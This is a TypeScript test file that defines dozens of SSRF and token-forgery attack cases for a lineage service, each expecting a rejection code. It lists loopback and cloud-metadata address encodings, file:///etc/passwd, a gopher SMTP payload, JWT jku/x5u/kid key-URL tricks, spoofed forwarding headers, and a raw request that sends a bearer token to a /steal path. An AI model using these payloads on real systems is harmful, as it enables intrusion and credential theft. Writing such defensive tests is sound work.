import { claimsOf, seal } from '../identity/support.ts'
import { head, runId } from '../openlineage/events.ts'
import { type Attack, NOTHING, TAKEN, type Theme } from './attack.ts'
import { acme, mallory, type World } from './world.ts'

const ASKED = '{ log { size } }'
const job = { namespace: 'n', name: 'j' }

/** A token by a key of the attacker's, which says where that key is to be had. */
const leading = (name: string, header: (at: string) => object): Attack => [
  `a token that says where its key is: ${name}`,
  ({ ask, issuer, partnerPair, canary }) =>
    ask(
      seal(
        { alg: 'ES256', kid: 'elsewhere', typ: 'at+jwt', ...header(canary.url) },
        claimsOf(issuer.url, { tenant: acme }),
        partnerPair,
      ),
      ASKED,
    ),
  401,
  'TOKEN_INVALID',
]
const issuedBy = (name: string, iss: (w: World) => string): Attack => [
  `an issuer to be discovered: ${name}`,
  (w) =>
    w.ask(
      seal(
        { alg: 'ES256', kid: 'p1', typ: 'at+jwt' },
        claimsOf(iss(w), { tenant: acme }),
        w.partnerPair,
      ),
      ASKED,
    ),
  401,
  'TOKEN_INVALID',
]
const withEvent = (
  name: string,
  more: (at: string) => object,
  status = 200,
  code = TAKEN,
): Attack => [
  `an address in an event: ${name}`,
  (w) =>
    w.event('mallory', {
      ...head('2026-01-01T00:00:00Z'),
      eventType: 'START',
      run: { runId: runId(9) },
      job,
      ...more(w.canary.url),
    }),
  status,
  code,
]
const facet = (at: string) => ({
  _producer: at,
  _schemaURL: `${at}/schema.json`,
  url: at,
  documentation: at,
})
const withHeader = (name: string, headers: (host: string) => Record<string, string>): Attack => [
  `an address in a header: ${name}`,
  (w) => w.get('/none', 'mallory', headers(new URL(w.canary.url).host)),
  404,
  'ROUTE_UNKNOWN',
]

const hook = (name: string, url: (w: World) => string): Attack => [
  `a webhook: ${name}`,
  (w) =>
    w.ask(
      'mallory',
      'mutation ($url: String!) { webhookCreate(input: {url: $url}) { position } }',
      {
        variables: { url: url(w) },
      },
    ),
  200,
  'WEBHOOK_INVALID',
]

const ATTACKS: Attack[] = [
  hook('by plain http', (w) => w.canary.url),
  hook('to this machine', (w) => w.canary.url.replace('http', 'https')),
  hook('by its number', (w) => w.canary.url.replace('http://127.0.0.1', 'https://2130706433')),
  hook('by its number in hex', () => 'https://0x7f000001/'),
  hook('by fewer parts', () => 'https://127.1/'),
  hook('as IPv6', () => 'https://[::1]/'),
  hook('as IPv4 within IPv6', () => 'https://[::ffff:127.0.0.1]/'),
  hook('through NAT64', () => 'https://[64:ff9b::7f00:1]/'),
  hook('through 6to4', () => 'https://[2002:7f00:1::]/'),
  hook('the machine’s own services', () => 'https://169.254.169.254/latest/meta-data'),
  hook('by nothing', () => 'https://0.0.0.0/'),
  hook('a network of its own', () => 'https://192.168.0.1/'),
  hook('a file', () => 'file:///etc/passwd'),
  hook('another protocol', () => 'gopher://example.com:25/_EHLO'),
  hook('in the name of a user', () => 'https://127.0.0.1@example.com/'),

  leading('jku', (at) => ({ jku: `${at}/jwks` })),
  leading('x5u', (at) => ({ x5u: `${at}/chain.pem` })),
  leading('kid', (at) => ({ kid: `${at}/jwks` })),
  leading('all at once', (at) => ({ jku: at, x5u: at, iss: at, cty: 'JWT', url: at })),
  issuedBy('by its URL', (w) => w.canary.url),
  issuedBy('by a name of this machine', (w) => w.canary.url.replace('127.0.0.1', 'localhost')),
  issuedBy('behind one that is trusted', (w) => `${w.issuer.url}@${new URL(w.canary.url).host}`),
  issuedBy('below one that is trusted', (w) => `${w.partner.url}/../${w.canary.url}`),
  issuedBy('with a slash more', (w) => `${w.partner.url}/`),
  issuedBy('the machine’s own services', () => 'http://169.254.169.254/latest/meta-data'),
  issuedBy('a file', () => 'file:///etc/passwd'),
  [
    'a request for another server',
    (w) =>
      w.bytes(
        `GET ${w.canary.url}/steal HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer ${w.tokens.mallory}\r\nConnection: close\r\n\r\n`,
      ),
    404,
    'ROUTE_UNKNOWN',
  ],
  [
    'a tunnel to another server',
    (w) => w.bytes(`CONNECT ${new URL(w.canary.url).host} HTTP/1.1\r\nHost: localhost\r\n\r\n`),
    405,
    'METHOD_NOT_ALLOWED',
  ],
  [
    'a path that is a URL',
    (w) => w.get(`//${new URL(w.canary.url).host}/steal`, 'mallory'),
    404,
    'ROUTE_UNKNOWN',
  ],
  [
    'an export that is a URL',
    (w) => w.get(`/exports/${encodeURIComponent(w.canary.url)}`, 'mallory'),
    404,
    'EXPORT_UNKNOWN',
  ],
  [
    'a log that is a URL',
    (w) => w.get(`/log/${encodeURIComponent(w.canary.url)}/checkpoint`, 'mallory'),
    404,
    'LOG_UNKNOWN',
  ],
  [
    'a persisted operation that is a URL',
    (w) =>
      w.ask('mallory', ASKED, {
        more: { extensions: { persistedQuery: { version: 1, sha256Hash: w.canary.url } } },
      }),
    400,
    'PERSISTED_QUERY_INVALID',
  ],
  [
    'an id that is a URL',
    (w) => w.ask('mallory', `{ entity(id: "${w.canary.url}") { id } }`),
    200,
    'ENTITY_ID_INVALID',
  ],
  [
    'a name that is a URL',
    (w) =>
      w.ask(
        'mallory',
        `{ entity(kind: Dataset, namespace: "${w.canary.url}", name: "${w.canary.url}") { id } }`,
      ),
    200,
    NOTHING,
  ],
  [
    'an issuer to simulate that is a URL',
    (w) =>
      w.ask(
        'mallory',
        `{ policySimulate(changes: [], requests: [{issuer: "${w.canary.url}", subject: "s", roles: [], permission: "${w.canary.url}"}]) { compared } }`,
      ),
    200,
    'PERMISSION_UNKNOWN',
  ],
  [
    'a grant to a URL',
    (w) =>
      w.ask(
        'mallory',
        `mutation { grantCreate(input: {to: "${w.canary.url}", root: "${w.own}", direction: UPSTREAM, depth: 1, kinds: [Dataset], fields: ["*"], until: "2027-01-01T00:00:00Z"}) { position } }`,
      ),
    200,
    'GRANT_INVALID',
  ],
  withHeader('x-forwarded-host', (host) => ({
    'x-forwarded-host': host,
    'x-forwarded-proto': 'http',
  })),
  withHeader('forwarded', (host) => ({
    forwarded: `host=${host};for=${host}`,
    via: `1.1 ${host}`,
  })),
  withHeader('where to find the original', (host) => ({
    'x-original-url': `http://${host}/`,
    'x-rewrite-url': `http://${host}/`,
    referer: `http://${host}/`,
  })),
  withHeader('where to be told', (host) => ({
    'reporting-endpoints': `e="http://${host}"`,
    'x-wap-profile': `http://${host}/`,
    profile: `http://${host}/`,
    'x-callback-url': `http://${host}/`,
  })),
  withEvent('producer and schemaURL', (at) => ({ producer: at, schemaURL: `${at}/schema.json` })),
  withEvent('facets', (at) => ({
    run: { runId: runId(9), facets: { custom: facet(at) } },
    job: {
      ...job,
      facets: {
        documentation: { ...facet(at), description: at },
        sourceCodeLocation: { ...facet(at), type: 'git', repoUrl: at },
      },
    },
  })),
  withEvent('datasets and symlinks', (at) => ({
    inputs: [
      {
        namespace: at,
        name: at,
        facets: {
          symlinks: {
            ...facet(at),
            identifiers: [{ namespace: at, name: 'other', type: 'TABLE' }],
          },
          dataSource: { ...facet(at), name: 'x', uri: at },
        },
      },
    ],
  })),
  withEvent('a producer that is a file', () => ({ producer: 'file:///etc/passwd' })),
  withEvent(
    'a producer that is no URI',
    () => ({ producer: '//etc/passwd' }),
    400,
    'OPENLINEAGE_URI_INVALID',
  ),
]

/** Whatever is taken is taken as a text: `canary` is asked by nobody. */
export const SSRF: Theme = {
  writes: true,
  theme: 'SSRF through every URL that is taken',
  attacks: ATTACKS,
}
export { mallory }
